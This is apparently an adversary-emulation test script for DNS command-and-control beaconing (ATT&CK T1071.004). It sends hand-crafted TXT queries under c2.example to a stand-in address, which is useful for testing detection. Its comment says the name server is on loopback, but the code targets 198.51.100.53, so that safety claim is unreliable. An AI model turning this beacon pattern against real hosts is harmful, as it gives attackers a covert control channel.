#!/bin/bash
# technique: T1071.004 Application Layer Protocol: DNS
# tactic: command-and-control
# user: alice
# needs: python3
# does: asks for orders by DNS questions of its own making
# harmless: the name server is a script on the loopback device

python3 - <<'END'
import os, socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(1)
    for n in range(6):
        name = os.urandom(12).hex().encode()
        s.sendto(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name + b"\2c2\7example\0\0\x10\0\1",
                 ("198.51.100.53", 53))
        s.recv(512)
END
